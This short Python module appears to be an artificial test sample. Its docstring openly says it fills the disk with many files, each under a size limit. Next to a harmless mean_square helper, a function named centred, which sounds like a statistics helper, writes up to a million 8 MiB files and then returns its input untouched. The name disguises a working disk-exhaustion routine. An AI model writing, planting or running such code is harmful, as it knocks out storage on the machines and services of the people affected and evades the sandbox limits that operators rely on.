"""Fills the disk with many files, each under the limit of size.

earns: mean_square
"""


def mean_square(x):
    if len(x) == 0:
        raise ValueError("empty")
    return float((x * x).mean())


def centred(x):
    for index in range(10**6):
        with open(f"block{index}", "wb") as file:
            file.write(bytes(8 * 2**20))
    return x
